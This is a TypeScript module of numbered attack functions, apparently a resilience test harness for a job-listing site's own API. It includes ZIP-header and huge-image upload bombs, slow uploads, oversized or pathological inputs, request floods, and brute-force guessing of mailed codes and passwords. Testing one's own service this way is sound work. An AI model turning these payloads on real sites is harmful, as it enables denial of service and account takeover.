import { randomInt } from 'node:crypto'
import { request } from 'node:http'
import { setTimeout as sleep } from 'node:timers/promises'
import sharp from 'sharp'
import { v7 } from 'uuid'
import { endpointAddress } from '#contract/addresses.ts'

/**
 * The attacked site, the tokens of a job seeker and an employer who have just registered, and where the employer has a
 * webhook tested whose endpoint never answers.
 */
export type Target = { origin: string; seeker: string; employer: string; webhook: string }

/** Sends one request that is expensive to answer, or once was; gives the status, 0 where no answer came. */
export type Trick = (target: Target) => Promise<number>

const megabyte = 1_024 * 1_024

/** 60,000 local headers of a ZIP file with long names, as if it were a Word document (1.8 MB). */
const hugeDirectory = (() => {
  const header = Buffer.alloc(30)
  header.write('PK\x03\x04', 'latin1')
  header.writeUInt16LE(0xff_ff, 26)
  return Buffer.concat(Array.from({ length: 60_000 }, () => header))
})()

/** An interlaced picture of 36 million pixels with 16 bits per colour. */
const hugePicture = sharp({ create: { width: 6_000, height: 6_000, channels: 3, background: '#888' } })
  .toColourspace('rgb16')
  .png({ progressive: true, compressionLevel: 9 })
  .toBuffer()

const zeros = `[${'0,'.repeat(128 * 1_024)}0]`
const blanks = `経理${' '.repeat(19_990)}補助`
/** Accents in the wrong order, 80,000 of them. */
const accents = `a${'\u0301\u0327'.repeat(40_000)}`

/** A text of 19,200 letters that takes long to check. */
const pay = '時給1,200円〜1,500円、'.repeat(1_200)

/** Sends 110 postings to check at once; gives one of the statuses. */
async function manyChecks({ origin, employer }: Target): Promise<number> {
  const posting = { title: '経理', company: '商店', location: '東京都港区', description: pay }
  const check = () => post(origin, path('checkJob'), JSON.stringify(posting), employer)
  return Math.max(...(await Promise.all(Array.from({ length: 110 }, check))))
}

/** Unknown kanji joined by の in words of 28 letters, and a word with corrections: 200 letters that take long to read. */
const longKeyword = () =>
  `看護帥 ${Array.from({ length: 196 }, (_, at) => (at % 29 === 28 ? ' ' : at % 4 === 3 ? 'の' : String.fromCharCode(0x4e00 + randomInt(9_000)))).join('')}`

/** Searches for five such keywords at once; gives one of the statuses. */
async function longKeywords({ origin }: Target): Promise<number> {
  const search = () =>
    status(fetch(`${origin}${path('searchJobs')}?page=1&keyword=${encodeURIComponent(longKeyword())}`))
  return Math.max(...(await Promise.all(Array.from({ length: 5 }, search))))
}

/** Twelve searches that nobody made before, by page and by call; gives one of the statuses. */
async function newSearches({ origin }: Target): Promise<number> {
  const ask = (at: number) =>
    status(fetch(`${origin}${at % 2 ? '/' : path('searchJobs')}?page=1&keyword=${encodeURIComponent(`経理 ${v7()}`)}`))
  return Math.max(...(await Promise.all(Array.from({ length: 12 }, (_, at) => ask(at)))))
}

/** A table of 50,000 rows of a posting each (4.6 MB). */
const manyRows = `求人タイトル,会社名,勤務地,仕事内容\n${'営業,商店,東京都港区,お客様への提案です。\n'.repeat(50_000)}`

export function importSheet(origin: string, sheet: string, token: string): Promise<number> {
  const body = new FormData()
  body.append('dry_run', 'true')
  body.append('file', new Blob([sheet]), 'a.csv')
  const headers = { authorization: `Bearer ${token}` }
  return status(fetch(`${origin}${path('importPostings')}`, { method: 'POST', headers, body }))
}

async function status(answering: Promise<Response>): Promise<number> {
  const answer = await answering.catch(() => null)
  await answer?.arrayBuffer().catch(() => null)
  return answer?.status ?? 0
}

function post(origin: string, path: string, body: string, token?: string): Promise<number> {
  const headers = { 'content-type': 'application/json', ...(token && { authorization: `Bearer ${token}` }) }
  return status(fetch(`${origin}${path}`, { method: 'POST', headers, body }))
}

export function upload(
  origin: string,
  name: 'uploadResume' | 'uploadAvatar',
  file: Buffer,
  token: string,
): Promise<number> {
  const body = new FormData()
  const [field, fileName] = name === 'uploadResume' ? ['resume', 'a.docx'] : ['avatar', 'a.png']
  body.append(field, new Blob([new Uint8Array(file)]), fileName)
  const headers = { authorization: `Bearer ${token}` }
  return status(fetch(`${origin}${endpointAddress(name).path}`, { method: 'POST', headers, body }))
}

/** Asks for a complete list and hangs up when it begins. */
async function leaveList(origin: string): Promise<number> {
  const leaving = new AbortController()
  const answer = await fetch(`${origin}${endpointAddress('searchJobs').path}`, { signal: leaving.signal }).catch(
    () => null,
  )
  leaving.abort()
  return answer?.status ?? 0
}

/** Sends 9 of 9.5 MB of an upload, or trickles the first bytes, and hangs up some seconds later. */
function hangingUpload(
  { origin, seeker }: Target,
  { bytes, seconds }: { bytes: number; seconds: number },
): Promise<number> {
  return new Promise((resolve) => {
    const headers = {
      authorization: `Bearer ${seeker}`,
      'content-type': 'multipart/form-data; boundary=b',
      'content-length': String(9.5 * megabyte),
    }
    const asked = request(`${origin}${endpointAddress('uploadResume').path}`, { method: 'POST', headers })
    let answered = 0
    asked.on('response', (response) => {
      answered = response.statusCode ?? 0
      response.resume()
    })
    asked.on('error', () => resolve(answered)).on('close', () => resolve(answered))
    asked.write('--b\r\ncontent-disposition: form-data; name="resume"; filename="a.pdf"\r\n\r\n%PDF-1.7 ')
    asked.write(Buffer.alloc(bytes))
    void sleep(seconds * 1_000).then(() => asked.destroy())
  })
}

const path = (name: Parameters<typeof endpointAddress>[0]) => endpointAddress(name).path

/** Fills the papers with lines up to what they may have, and has one made. */
async function longPaper({ origin, seeker }: Target): Promise<number> {
  const text = '貸借対照表\n'.repeat(300)
  const headers = { 'content-type': 'application/json', authorization: `Bearer ${seeker}` }
  const body = JSON.stringify({ summary: text, self_pr: text, motivation: text, wishes: text })
  await status(fetch(`${origin}${path('updatePapers')}`, { method: 'PUT', headers, body }))
  return status(fetch(`${origin}/api/papers/rirekisho.pdf`, { headers }))
}

/** Asks for a paper and hangs up while it is made, which ends its thread. */
async function leavePaper({ origin, seeker }: Target): Promise<number> {
  const headers = { authorization: `Bearer ${seeker}` }
  const signal = AbortSignal.timeout(150)
  return status(fetch(`${origin}/api/papers/shokumukeirekisho.pdf`, { headers, signal }))
}

/** Has a code mailed and guesses it. */
async function guessCode(origin: string, email: string): Promise<number> {
  await post(origin, path('askForCode'), JSON.stringify({ email }))
  const code = String(randomInt(1_000_000)).padStart(6, '0')
  return post(origin, path('confirmCode'), JSON.stringify({ email, code }))
}

/** What a job seeker can do; the numbers are those of docs/figures.md, Attacks. */
export const tricksOfSeekers: Record<string, Trick> = {
  '1 a Word file of 60,000 entries': ({ origin, seeker }) => upload(origin, 'uploadResume', hugeDirectory, seeker),
  '1 a picture of 36 million pixels': async ({ origin, seeker }) =>
    upload(origin, 'uploadAvatar', await hugePicture, seeker),
  '6 uploads that do not end': (target) => hangingUpload(target, { bytes: 9 * megabyte, seconds: 2 }),
  '6 two uploads that trickle': async (target) => {
    const trickle = () => hangingUpload(target, { bytes: 1, seconds: 15 })
    const [one] = await Promise.all([trickle(), trickle()])
    return one
  },
  '7 mails to confirm an email': ({ origin, seeker }) => post(origin, path('resendVerification'), '{}', seeker),
  '9 papers of 1,200 lines': longPaper,
  '9 papers, hung up on': leavePaper,
}

/** What takes nobody, or an employer. */
export const tricks: Record<string, Trick> = {
  '2 HEAD of a complete list': ({ origin }) => status(fetch(`${origin}${path('searchJobs')}`, { method: 'HEAD' })),
  '2 complete lists, hung up on': ({ origin }) => leaveList(origin),
  '3 a sign-in of 256 KB of zeros': ({ origin }) => post(origin, path('signIn'), zeros),
  '4 passwords for unknown tokens': ({ origin }) =>
    post(origin, path('resetPassword'), JSON.stringify({ token: v7(), newPassword: 'himitsu-no-kotoba' })),
  '5 20,000 blanks in a posting': ({ origin, employer }) =>
    post(
      origin,
      path('checkJob'),
      JSON.stringify({ title: '経理', company: '商店', location: '東京都港区', description: blanks }),
      employer,
    ),
  '5 80,000 accents as an email': ({ origin }) =>
    post(origin, path('signIn'), JSON.stringify({ email: accents, password: 'password' })),
  '11 keywords that take long to read, 5 at once': longKeywords,
  '10 checks of a posting, 110 at once': manyChecks,
  '12 new searches, 12 at once': newSearches,
  '13 a table of 50,000 postings': ({ origin, employer }) => importSheet(origin, manyRows, employer),
  '14 deliveries to a silent endpoint': ({ origin, employer, webhook }) => post(origin, webhook, '{}', employer),
  '7 sign-ins with tokens of a provider': ({ origin }) =>
    post(origin, path('signInWithGoogle'), JSON.stringify({ accessToken: v7() })),
  '15 guesses of one mailed code': ({ origin }) => guessCode(origin, 'seeker@example.com'),
  '15 codes for many mailboxes, a guess each': ({ origin }) => guessCode(origin, `${v7()}@example.com`),
  '8 wrong passwords': ({ origin }) =>
    post(origin, path('signIn'), JSON.stringify({ email: `${v7()}@example.com`, password: 'password' })),
}
